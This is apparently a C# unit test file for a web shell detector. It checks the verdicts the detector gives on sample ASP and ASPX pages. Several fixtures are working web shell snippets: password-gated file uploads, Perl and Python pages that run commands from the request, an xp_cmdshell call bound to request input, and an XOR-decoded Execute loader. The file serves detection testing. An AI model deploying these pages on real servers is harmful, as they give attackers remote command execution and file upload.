using System.Text;
using Afterpatch.Scripts.WebShells;
using Xunit;

namespace Afterpatch.Scripts.Tests.WebShells;

/// <summary>Uploads behind a page's own password, helpers that nobody calls, methods named in settings, procedures with bound commands, other script engines.</summary>
public sealed class LeftoverTests
{
    private const string Save = "fu.SaveAs(System.IO.Path.Combine(Server.MapPath(\"~/files/\"), System.IO.Path.GetFileName(fu.FileName))); } </script><form runat=\"server\"><asp:FileUpload ID=\"fu\" runat=\"server\" /></form>";
    private const string Upload = "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs e) { ";

    [Theory]
    [InlineData("a.aspx", Upload + "if (Request[\"pwd\"] != \"s3cr3t-of-mine\") return; " + Save)]
    [InlineData("a.aspx", Upload + "if (Request.Cookies[\"k\"] == null || Request.Cookies[\"k\"].Value != \"Zk81mmQp\") return; " + Save)]
    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=\"server\">static string S(string k) { return System.Configuration.ConfigurationManager.AppSettings[k]; } void Page_Load(object s, EventArgs e) { string v = Request[\"v\"]; var t = Type.GetType(S(\"t\"), true); var m = t.GetMethod(S(\"m\"), new[] { typeof(string), typeof(string) }); Response.Write(m.Invoke(null, new object[] { S(\"a\"), \"/c \" + v })); }</script>")]
    [InlineData("a.asp", "<%\nFunction Dec(s)\nDim i, r\nFor i = 1 To Len(s) Step 2\nr = r & Chr(CInt(\"&H\" & Mid(s, i, 2)) Xor 7)\nNext\nDec = r\nEnd Function\nSub Block(v)\nIf Len(v) > 3 Then Execute Dec(v)\nEnd Sub\n%>")]
    [InlineData("a.asp", "<%@ Language=PerlScript %><% my $c = $Request->Form('c')->Item; my $r = `$c`; $Response->Write($r); %>")]
    [InlineData("a.asp", "<script runat=server language=\"Python\">\nimport os\nx = Request.Form(\"c\")\nResponse.Write(os.popen(str(x)).read())\n</script>")]
    public void Suspicious(string name, string page) => Is(WebShellVerdict.Suspicious, name, page);

    [Theory]
    [InlineData("a.aspx", Upload + "if (!User.IsInRole(\"Editors\")) { Response.End(); } string x = System.IO.Path.GetExtension(fu.FileName).ToLower(); if (x != \".jpg\" && x != \".png\") return; " + Save)]
    [InlineData("a.aspx", Upload + "if (Request[\"pwd\"] != \"s3cr3t-of-mine\") return; string x = System.IO.Path.GetExtension(fu.FileName).ToLower(); if (x != \".jpg\" && x != \".png\") return; " + Save)]
    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs e) { var t = Type.GetType(System.Configuration.ConfigurationManager.AppSettings[\"provider\"]); var o = (IProvider)Activator.CreateInstance(t); Response.Write(Server.HtmlEncode(o.Find(Request[\"v\"]))); }</script>")]
    [InlineData("a.asp", "<%\nSub WriteLog(text)\nSet f = CreateObject(\"Scripting.FileSystemObject\").OpenTextFile(Server.MapPath(\"/logs/a.log\"), 8, True)\nf.WriteLine Now & \" \" & text\nf.Close\nEnd Sub\nSub SendMail(a, b, c)\nSet m = CreateObject(\"CDO.Message\")\nm.To = a\nm.Subject = b\nm.TextBody = c\nm.Send\nEnd Sub\nFunction Rows(sql)\nSet c = CreateObject(\"ADODB.Connection\")\nc.Open Application(\"dsn\")\nSet Rows = c.Execute(sql)\nEnd Function\n%>")]
    public void Benign(string name, string page) => Is(WebShellVerdict.Benign, name, page);

    [Theory]
    [InlineData("a.asp", "<%@ Language=PerlScript %><% my $r = `ping -n 1 www.example.com`; $Response->Write($r . $Request->QueryString('a')->Item); %>")]
    [InlineData("a.asp", "<script runat=server language=\"Python\">\nResponse.Write(Server.HTMLEncode(Request(\"a\")))\n</script>")]
    public void Unreadable(string name, string page) => Is(WebShellVerdict.Unreadable, name, page);

    [Fact]
    public void Procedure_with_bound_command() =>
        Is(WebShellVerdict.WebShell, "a.aspx", "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs e) { var c = new System.Data.SqlClient.SqlConnection(\"Server=.\"); c.Open(); var k = new System.Data.SqlClient.SqlCommand(\"EXEC xp_cmdshell @c\", c); k.Parameters.AddWithValue(\"@c\", Request[\"c\"]); Response.Write(k.ExecuteScalar()); }</script>");

    [Fact]
    public void Procedure_is_shown_where_it_stands()
    {
        const string Page = "<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Run(string sql) {\nnew System.Data.SqlClient.SqlCommand(sql, c).ExecuteNonQuery();\n}\nvoid Page_Load(object s, EventArgs e) {\nRun(\"EXEC master..xp_cmdshell '\" + Request[\"c\"] + \"'\");\n}</script>";
        Assert.Contains(WebShellJudge.Judge("a.aspx", Encoding.UTF8.GetBytes(Page)).Evidence, e => e.Line == 6);
    }

    private static void Is(WebShellVerdict verdict, string name, string page) => Assert.Equal(verdict, WebShellJudge.Judge(name, Encoding.UTF8.GetBytes(page)).Verdict);
}
